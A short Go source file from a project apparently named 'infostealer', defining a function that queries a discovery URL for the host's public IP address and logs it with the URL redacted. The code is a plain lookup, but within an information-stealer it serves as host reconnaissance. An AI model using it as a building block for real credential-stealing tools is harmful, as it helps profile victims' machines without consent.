package probe

import (
	"context"

	"github.com/gzhole/infostealer/internal/logger"
	"github.com/gzhole/infostealer/internal/redact"
)

// Getter is the part of the network client the address probe needs.
type Getter interface {
	Get(ctx context.Context, url string) (string, error)
}

// FetchExternalAddress asks discoveryURL for the public address of the host.
// It returns nil when the lookup fails.
func FetchExternalAddress(ctx context.Context, g Getter, discoveryURL string, log *logger.Narrator) *string {
	log.Info("Fetching external IP from %s...", redact.URL(discoveryURL))
	ip, err := g.Get(ctx, discoveryURL)
	if err != nil {
		log.Failure("Failed to get external IP: %v", err)
		return nil
	}
	log.Success("External IP: %s", ip)
	return &ip
}
